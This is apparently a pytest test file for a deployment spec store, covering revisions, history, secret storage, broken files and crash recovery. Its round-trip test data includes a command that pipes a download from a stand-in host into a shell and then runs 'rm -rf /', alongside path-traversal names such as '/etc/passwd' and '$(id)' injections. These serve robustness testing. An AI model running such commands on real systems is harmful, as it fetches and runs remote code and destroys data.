"""The spec store: files, revisions, history, secrets, broken files and crashes."""

from __future__ import annotations

import dataclasses
import logging
import os
import stat
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import yaml

from airflow_jobs_provider.deployments import store as store_module
from airflow_jobs_provider.deployments.secrets import InMemorySecretSink, secret_variable_key
from airflow_jobs_provider.deployments.spec import DeploymentSpec
from airflow_jobs_provider.deployments.store import (
    ConflictError,
    Deletion,
    InvalidSpec,
    NotFoundError,
    RejectedError,
    SpecStore,
    StoredDeployment,
)
from tests.unit.deployments.conftest import POLICY

MakeSpec = Callable[..., DeploymentSpec]
NAME = "customer-sync-2-0-1"
SECRET = "db:5432:*:etl:hunter2-Secret"


def _stored(entry: object) -> StoredDeployment:
    assert isinstance(entry, StoredDeployment), entry
    return entry


def _files(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def _with_secret(make_spec: MakeSpec, content: str | None = SECRET, **changes: Any) -> DeploymentSpec:
    secret: dict[str, Any] = {"file_name": ".pgpass", "secret": True}
    if content is not None:
        secret["content"] = content
    return make_spec(config_files=[{"file_name": "app.ini", "content": "a=1\n"}, secret], **changes)


def test_create_and_read(store: SpecStore, make_spec: MakeSpec) -> None:
    before = datetime.now(timezone.utc).replace(microsecond=0)
    created = store.create(make_spec(), "alice")
    assert (created.revision, created.deployed_by, created.changes) == (1, "alice", ())
    assert before <= created.deployed_at <= datetime.now(timezone.utc)
    assert created.deployed_at.utcoffset() == timedelta(0)

    read = _stored(store.get(NAME))
    assert read == dataclasses.replace(created, path=store.folder / f"{NAME}.yaml")
    assert [entry.name for entry in store.list()] == [NAME]

    document = yaml.safe_load(read.path.read_text())
    assert list(document) == ["format", "revision", "action", "deployed_by", "deployed_at", "changes", "spec"]
    assert document["deployed_at"] == created.deployed_at.isoformat()
    assert document["spec"] == make_spec().model_dump(mode="json")
    assert stat.S_IMODE(read.path.stat().st_mode) == 0o644


def test_list_is_sorted_and_empty_without_a_folder(store: SpecStore, make_spec: MakeSpec) -> None:
    assert store.list() == []
    for name in ["b-job", "a-job", "c-job", "a-job-2"]:
        store.create(make_spec(name=name), "alice")
    assert [entry.name for entry in store.list()] == ["a-job", "a-job-2", "b-job", "c-job"]


def test_create_refuses_an_existing_name(store: SpecStore, make_spec: MakeSpec) -> None:
    store.create(make_spec(), "alice")
    with pytest.raises(ConflictError, match="exists already"):
        store.create(make_spec(args=["other"]), "bob")
    assert _stored(store.get(NAME)).deployed_by == "alice"


def test_update_keeps_history_with_what_changed(store: SpecStore, make_spec: MakeSpec) -> None:
    first = make_spec()
    store.create(first, "alice")
    second = make_spec(
        artifact={**first.artifact.model_dump(), "version": "2.1.0"}, args=["--full"], env={"REGION": "north"}
    )
    updated = store.update(NAME, second, "bob", expected_revision=1)
    assert updated.revision == 2
    assert updated.changes == ("artifact.version", "args", "env.REGION")

    history = store.history(NAME)
    assert [(h.revision, h.action, h.deployed_by) for h in history] == [
        (1, "create", "alice"),
        (2, "update", "bob"),
    ]
    assert history[0].spec == first.model_dump(mode="json")
    assert history[1].changes == ("artifact.version", "args", "env.REGION")
    assert (store.folder / ".history" / NAME / "1.yaml").is_file()
    assert _stored(store.get(NAME)).spec == second


def test_update_refuses_a_stale_revision(store: SpecStore, make_spec: MakeSpec) -> None:
    store.create(make_spec(), "alice")
    store.update(NAME, make_spec(args=["one"]), "alice", expected_revision=1)
    before = _files(store.folder)
    with pytest.raises(ConflictError, match="is at revision 2, not 1: someone changed it meanwhile"):
        store.update(NAME, make_spec(args=["two"]), "bob", expected_revision=1)
    assert _files(store.folder) == before


def test_update_needs_an_existing_deployment_and_its_own_name(store: SpecStore, make_spec: MakeSpec) -> None:
    with pytest.raises(NotFoundError):
        store.update(NAME, make_spec(), "alice", expected_revision=1)
    store.create(make_spec(), "alice")
    with pytest.raises(RejectedError, match="name: a deployment cannot be renamed"):
        store.update(NAME, make_spec(name="other-name"), "alice", expected_revision=1)


def test_delete_moves_into_history(store: SpecStore, make_spec: MakeSpec) -> None:
    store.create(make_spec(), "alice")
    store.update(NAME, make_spec(args=["x"]), "alice", expected_revision=1)
    with pytest.raises(ConflictError):
        store.delete(NAME, "bob", expected_revision=1)
    store.delete(NAME, "bob", expected_revision=2)

    assert not (store.folder / f"{NAME}.yaml").exists()
    assert store.list() == []
    with pytest.raises(NotFoundError):
        store.get(NAME)
    with pytest.raises(NotFoundError):
        store.delete(NAME, "bob")
    history = store.history(NAME)
    assert [(h.revision, h.action, h.deployed_by) for h in history] == [
        (1, "create", "alice"),
        (2, "update", "alice"),
        (3, "delete", "bob"),
    ]
    assert history[1].spec is not None and history[1].spec["args"] == ["x"]
    assert history[2].spec is None

    recreated = store.create(make_spec(), "carol")
    assert recreated.revision == 4
    assert [h.action for h in store.history(NAME)] == ["create", "update", "delete", "create"]


@pytest.mark.parametrize("name", ["../evil", "..", "a/b", "/etc/passwd", "UPPER", "", "x" * 41, "job\x00"])
def test_names_are_checked_before_any_file_is_touched(tmp_path: Path, name: str) -> None:
    store = SpecStore(tmp_path / "specs", secrets=InMemorySecretSink(), policy=POLICY)
    for call in (
        lambda: store.get(name),
        lambda: store.history(name),
        lambda: store.delete(name, "alice"),
    ):
        with pytest.raises(RejectedError, match="name: must be a DNS-1123 label"):
            call()
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize("user", ["", "alice\nbob", " alice", "x" * 201])
def test_users_are_checked(store: SpecStore, make_spec: MakeSpec, user: str) -> None:
    with pytest.raises(RejectedError, match="user: "):
        store.create(make_spec(), user)


def test_a_spec_is_checked_again_by_the_store(tmp_path: Path, make_spec: MakeSpec) -> None:
    strict = SpecStore(
        tmp_path, secrets=InMemorySecretSink(), policy=dataclasses.replace(POLICY, max_cpu_limit="1")
    )
    with pytest.raises(ValueError, match="ceiling of 1"):
        strict.create(make_spec(), "alice")
    assert list(tmp_path.glob("*.yaml")) == []


# Secrets


def test_secret_contents_go_to_the_sink_never_to_a_file(
    store: SpecStore, sink: InMemorySecretSink, make_spec: MakeSpec
) -> None:
    key = secret_variable_key(NAME, ".pgpass")
    store.create(_with_secret(make_spec), "alice")
    assert sink.values == {key: SECRET}

    # Redeploy without the content: the stored content stays.
    kept = store.update(NAME, _with_secret(make_spec, content=None, args=["x"]), "bob", expected_revision=1)
    assert kept.changes == ("args",)
    assert sink.values == {key: SECRET}

    # Redeploy with new content: replaced, and the history says so without the value.
    replaced = store.update(
        NAME, _with_secret(make_spec, content="new-" + SECRET), "bob", expected_revision=2
    )
    assert replaced.changes == ("args", "config_files[.pgpass].content")
    assert sink.values == {key: "new-" + SECRET}

    stored = _stored(store.get(NAME))
    assert stored.spec.model_dump(mode="json")["config_files"][1] == {"file_name": ".pgpass", "secret": True}
    assert stored.spec.config_files[1].content is None

    store.delete(NAME, "carol")
    assert sink.values == {}
    for path, content in _files(store.folder).items():
        assert SECRET.encode() not in content, path
        assert b"hunter2" not in content, path


def test_a_removed_secret_file_loses_its_content(
    store: SpecStore, sink: InMemorySecretSink, make_spec: MakeSpec
) -> None:
    store.create(_with_secret(make_spec), "alice")
    store.update(NAME, make_spec(config_files=[{"file_name": ".pgpass", "content": "now plain"}]), "alice", 1)
    assert sink.values == {}


def test_a_new_secret_file_needs_its_content(
    store: SpecStore, sink: InMemorySecretSink, make_spec: MakeSpec
) -> None:
    with pytest.raises(RejectedError, match=r"config_files: the secret files \.pgpass need their content"):
        store.create(_with_secret(make_spec, content=None), "alice")
    assert not (store.folder / f"{NAME}.yaml").exists()

    store.create(make_spec(), "alice")
    with pytest.raises(RejectedError, match=r"the new secret files \.pgpass need their content"):
        store.update(NAME, _with_secret(make_spec, content=None), "alice", expected_revision=1)
    assert sink.values == {}


class _FailingSink(InMemorySecretSink):
    def __init__(self, fail_on: str) -> None:
        super().__init__()
        self.fail_on = fail_on

    def put(self, key: str, value: str) -> None:
        if self.fail_on == "put":
            raise ConnectionError("database is down")
        super().put(key, value)

    def delete(self, key: str) -> None:
        if self.fail_on == "delete":
            raise ConnectionError("database is down")
        super().delete(key)


def test_no_spec_without_its_secret(tmp_path: Path, make_spec: MakeSpec) -> None:
    store = SpecStore(tmp_path, secrets=_FailingSink("put"), policy=POLICY)
    with pytest.raises(ConnectionError):
        store.create(_with_secret(make_spec), "alice")
    assert store.list() == []


def test_a_secret_that_cannot_be_deleted_is_only_logged(
    tmp_path: Path, make_spec: MakeSpec, caplog: pytest.LogCaptureFixture
) -> None:
    sink = _FailingSink("none")
    store = SpecStore(tmp_path, secrets=sink, policy=POLICY)
    store.create(_with_secret(make_spec), "alice")
    sink.fail_on = "delete"
    with caplog.at_level(logging.WARNING):
        store.delete(NAME, "alice")
    assert store.list() == []
    assert "delete it by hand" in caplog.text
    assert SECRET not in caplog.text


# Broken files


def _write(folder: Path, name: str, content: str | bytes) -> None:
    path = folder / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")


def test_a_broken_file_spoils_only_its_own_entry(store: SpecStore, make_spec: MakeSpec) -> None:
    for name in ["a-good", "c-policy", "d-envelope", "e-mismatch", "g-good"]:
        store.create(make_spec(name=name), "alice")
    folder = store.folder
    good = (folder / "a-good.yaml").read_text()
    _write(folder, "b-yaml.yaml", "revision: 1\nspec: {name: [unclosed\n")
    _write(folder, "c-policy.yaml", good.replace("registry.example.org/talend-runner:17", "evil/miner:1"))
    _write(folder, "d-envelope.yaml", good.replace("revision: 1", "revision: first"))
    _write(folder, "e-mismatch.yaml", good)
    _write(folder, "f-bytes.yaml", b"\xff\xfe not utf-8")
    _write(folder, "Bad_Name.yaml", good)
    _write(folder, "h-list.yaml", "- just\n- a list\n")
    _write(folder, "i-empty.yaml", "")
    _write(folder, "notes.txt", "ignored")

    entries = {entry.name: entry for entry in store.list()}
    assert list(entries) == sorted(entries)
    assert isinstance(entries["a-good"], StoredDeployment)
    assert isinstance(entries["g-good"], StoredDeployment)
    errors = {name: entry for name, entry in entries.items() if isinstance(entry, InvalidSpec)}
    assert set(errors) == {
        "Bad_Name",
        "b-yaml",
        "c-policy",
        "d-envelope",
        "e-mismatch",
        "f-bytes",
        "h-list",
        "i-empty",
    }
    assert errors["b-yaml"].error.startswith("not valid YAML")
    assert errors["b-yaml"].revision == None  # noqa: E711 - the YAML cannot say
    assert errors["c-policy"].error.startswith(
        "spec.runner_image: 'evil/miner:1' is not in the runner catalog"
    )
    assert errors["c-policy"].revision == 1
    assert errors["d-envelope"].error.startswith("revision: Input should be a valid integer")
    assert errors["e-mismatch"].error == "spec.name: 'a-good' is not the file's name 'e-mismatch'"
    assert errors["f-bytes"].error.startswith("cannot be read")
    assert errors["Bad_Name"].error.startswith("file name: must be a DNS-1123 label")
    assert errors["h-list"].error.startswith("Input should be a valid dictionary")
    assert errors["i-empty"].error.startswith("Input should be a valid dictionary")
    assert errors["c-policy"].path == folder / "c-policy.yaml"
    assert store.get("c-policy") == errors["c-policy"]


def test_a_file_edited_to_name_a_webhook_the_admin_does_not_allow_is_invalid(
    tmp_path: Path, make_spec: MakeSpec
) -> None:
    policy = dataclasses.replace(POLICY, webhook_connections=("webhook_*",))
    store = SpecStore(tmp_path, secrets=InMemorySecretSink(), policy=policy)
    store.create(make_spec(notify={"webhook_conn_id": "webhook_team"}), "alice")
    path = tmp_path / f"{NAME}.yaml"
    path.write_text(path.read_text().replace("webhook_team", "aws_default"))
    [entry] = store.list()
    assert entry == InvalidSpec(
        name=NAME,
        path=path,
        error="spec.notify.webhook_conn_id: connection 'aws_default' is not one the admin allows for webhooks "
        "([job_orchestrator] webhook_connections: webhook_*)",
        revision=1,
    )


def test_an_invalid_spec_can_be_redeployed_or_deleted(
    store: SpecStore, sink: InMemorySecretSink, make_spec: MakeSpec
) -> None:
    store.create(_with_secret(make_spec, resources={"cpu_limit": "8"}), "alice")
    tighter = SpecStore(store.folder, secrets=sink, policy=dataclasses.replace(POLICY, max_cpu_limit="4"))
    invalid = tighter.get(NAME)
    assert isinstance(invalid, InvalidSpec)
    assert "ceiling of 4" in invalid.error
    assert invalid.revision == 1
    fixed = tighter.update(
        NAME, _with_secret(make_spec, content=None, resources={"cpu_limit": "4"}), "alice", 1
    )
    assert fixed.revision == 2 and fixed.changes == ("resources.cpu_limit",)
    assert isinstance(tighter.get(NAME), StoredDeployment)

    # A file whose revision cannot be read: no update against it, but it can be deleted,
    # its secrets too (read leniently), and it stays in the history as it was.
    path = store.folder / f"{NAME}.yaml"
    broken = path.read_text().replace("revision: 2", "revision: second")
    path.write_text(broken)
    with pytest.raises(ConflictError, match="revision is unknown"):
        store.update(NAME, make_spec(), "alice", expected_revision=2)
    store.delete(NAME, "alice")
    assert sink.values == {}
    assert (store.folder / ".history" / NAME / "2.yaml").read_text() == broken
    assert [h.revision for h in store.history(NAME)] == [1, 3]  # 2 cannot be read, and the log says so


def test_a_file_that_is_not_yaml_can_be_deleted(
    store: SpecStore, sink: InMemorySecretSink, make_spec: MakeSpec, caplog: pytest.LogCaptureFixture
) -> None:
    store.create(_with_secret(make_spec), "alice")
    path = store.folder / f"{NAME}.yaml"
    path.write_text("format: [\n")
    with caplog.at_level(logging.WARNING):
        store.delete(NAME, "alice")
    assert not path.exists()
    assert f"stay in Variables job_orchestrator.secret.{NAME}_*" in caplog.text
    assert [h.action for h in store.history(NAME)] == ["delete"]


# Crashes


def test_a_crash_before_the_rename_keeps_the_old_file(
    store: SpecStore, make_spec: MakeSpec, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.create(make_spec(), "alice")
    target = store.folder / f"{NAME}.yaml"
    old = target.read_bytes()
    real_replace = os.replace

    def crash(source: Any, destination: Any) -> None:
        if Path(destination) == target:
            raise OSError("power failure")
        real_replace(source, destination)

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError, match="power failure"):
        store.update(NAME, make_spec(args=["new"]), "bob", expected_revision=1)
    assert target.read_bytes() == old
    assert not [path for path in store.folder.rglob("*") if path.name.startswith(".tmp-")]
    assert _stored(store.get(NAME)).revision == 1

    monkeypatch.setattr(os, "replace", real_replace)
    assert store.update(NAME, make_spec(args=["new"]), "bob", expected_revision=1).revision == 2


class _Killed(BaseException):
    """Stands for SIGKILL: nothing after it runs, not even ``except Exception``."""


class _KilledWhileDeletingSecrets(InMemorySecretSink):
    def __init__(self) -> None:
        super().__init__()
        self.killed = False

    def delete(self, key: str) -> None:
        if not self.killed:
            self.killed = True
            raise _Killed
        super().delete(key)


def test_a_delete_killed_after_it_happened_is_finished_by_the_next_writer(
    tmp_path: Path, make_spec: MakeSpec
) -> None:
    sink = _KilledWhileDeletingSecrets()
    store = SpecStore(tmp_path, secrets=sink, policy=POLICY)
    store.create(_with_secret(make_spec), "alice")
    with pytest.raises(_Killed):
        store.delete(NAME, "bob")

    # The deletion happened: the spec file's place holds its record, the secret is still there.
    assert yaml.safe_load((tmp_path / f"{NAME}.yaml").read_text())["action"] == "delete"
    assert sink.values == {secret_variable_key(NAME, ".pgpass"): SECRET}
    assert store.list() == []
    with pytest.raises(NotFoundError):
        store.get(NAME)
    assert [(h.revision, h.action, h.deployed_by) for h in store.history(NAME)] == [
        (1, "create", "alice"),
        (2, "delete", "bob"),
    ]

    # Any next write of the name ends that delete first.
    with pytest.raises(NotFoundError):
        store.update(NAME, make_spec(), "carol", expected_revision=1)
    assert sink.values == {}
    assert not (tmp_path / f"{NAME}.yaml").exists()
    assert sorted(path.name for path in (tmp_path / ".history" / NAME).iterdir()) == ["1.yaml", "2.yaml"]
    assert store.create(make_spec(), "carol").revision == 3
    assert [h.action for h in store.history(NAME)] == ["create", "delete", "create"]


def test_deletions_since_lists_recent_deletions_of_names_not_deployed_again(
    store: SpecStore, make_spec: MakeSpec, monkeypatch: pytest.MonkeyPatch
) -> None:
    long_ago = datetime(2020, 1, 1, tzinfo=timezone.utc)
    monkeypatch.setattr(store_module, "_now", lambda: long_ago)
    store.create(make_spec(name="old"), "alice")
    store.delete("old", "bob")  # deleted long ago
    monkeypatch.undo()
    since = datetime.now(timezone.utc).replace(microsecond=0)
    for name in ("gone", "back", "kept", "edited"):
        store.create(make_spec(name=name), "alice")
    store.update("edited", make_spec(name="edited", args=["x"]), "alice", expected_revision=1)
    store.delete("gone", "bob")
    store.delete("back", "bob")
    store.create(make_spec(name="back"), "carol")  # deployed again
    (store.folder / ".history" / "not a name").mkdir()

    deletions = store.deletions_since(since)

    assert [(d.name, d.revision, d.deleted_by) for d in deletions] == [("gone", 2, "bob")]
    assert since <= deletions[0].deleted_at <= datetime.now(timezone.utc)
    assert store.deletions_since(long_ago) == [
        Deletion(name="gone", revision=2, deleted_by="bob", deleted_at=deletions[0].deleted_at),
        Deletion(name="old", revision=2, deleted_by="bob", deleted_at=long_ago),
    ]
    assert SpecStore(store.folder / "nowhere").deletions_since(long_ago) == []


def test_deletions_since_lists_a_delete_killed_before_its_end(tmp_path: Path, make_spec: MakeSpec) -> None:
    store = SpecStore(tmp_path, secrets=_KilledWhileDeletingSecrets(), policy=POLICY)
    store.create(_with_secret(make_spec), "alice")
    with pytest.raises(_Killed):
        store.delete(NAME, "bob")
    assert [
        (d.name, d.revision) for d in store.deletions_since(datetime(2020, 1, 1, tzinfo=timezone.utc))
    ] == [(NAME, 2)]


def test_a_history_read_during_a_delete_shows_the_deployment_deployed_or_deleted(
    store: SpecStore, make_spec: MakeSpec, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.create(make_spec(), "alice")
    store.update(NAME, make_spec(args=["x"]), "alice", expected_revision=1)
    writer = SpecStore(store.folder, secrets=InMemorySecretSink(), policy=POLICY)
    real_read = store_module._read_revision

    def read_while_deleting(path: Path) -> Any:
        if writer.list():  # the first file the reader reads: the delete runs just before
            writer.delete(NAME, "bob")
        return real_read(path)

    monkeypatch.setattr(store_module, "_read_revision", read_while_deleting)
    history = store.history(NAME)
    assert [(h.revision, h.action) for h in history] == [(1, "create"), (2, "update"), (3, "delete")]


def test_leftovers_of_a_crashed_writer_are_ignored_then_removed(
    store: SpecStore, make_spec: MakeSpec
) -> None:
    store.create(make_spec(), "alice")
    leftover = store.folder / ".tmp-abc123.partial"
    leftover.write_text("format: 1\nrevision: 9\n")
    assert [entry.name for entry in store.list()] == [NAME]
    store.update(NAME, make_spec(args=["x"]), "alice", expected_revision=1)
    assert not leftover.exists()


# Round trip


HOSTILE_ARGS = [
    "--context_param",
    "query=SELECT * FROM t WHERE name = 'O''Brien' AND note = \"x\"",
    "{{ dag_run.conf['cmd'] }}",
    "$(curl evil.example | sh); `id` && rm -rf / #",
    "multi\nline\r\nvalue\n",
    "  padded  ",
    "yes",
    "null",
    "~",
    "0x10",
    "2024-01-01",
    "Grüße 😀 漢字 \u202e \x85 \u2028 \ufeff \x1b[0m",
    "a" * 8192,
    "",
]


def test_hostile_values_round_trip_exactly(store: SpecStore, make_spec: MakeSpec) -> None:
    spec = make_spec(
        description="\n".join(HOSTILE_ARGS[:-2]),
        owner='O\'Brien "Data" Office ☃',
        tags=["team:data office", "a/b+c"],
        args=HOSTILE_ARGS,
        env={
            "YES": "no",
            "NULL": "~",
            "TEMPLATE": "{{ var.value.secret }}",
            "SHELL_CMD": "$(id)",
            "EMPTY": "",
        },
        config_files=[
            {"file_name": "query.sql", "content": "SELECT '{{ x }}';\n-- $(id)\n\ttabbed\n  \n"},
            {"file_name": "crlf.ini", "content": "a=1\r\nb=2\r\n"},
            {"file_name": "no-newline.txt", "content": "last line"},
            {"file_name": "long.txt", "content": "word " * 40_000 + "\u2028" + "x" * 40_000},
        ],
        artifact={
            "repository": "raw-hosted",
            "group": "/jobs/ÄÖÜ",
            "name": "job 'x'",
            "version": "1.0-rc.1+b7",
        },
    )
    store.create(spec, "O'Brien")
    stored = _stored(store.get(NAME))
    assert stored.spec == spec
    assert stored.spec.model_dump(mode="json") == spec.model_dump(mode="json")
    assert stored.deployed_by == "O'Brien"
    assert yaml.safe_load((store.folder / f"{NAME}.yaml").read_text())["spec"] == spec.model_dump(mode="json")
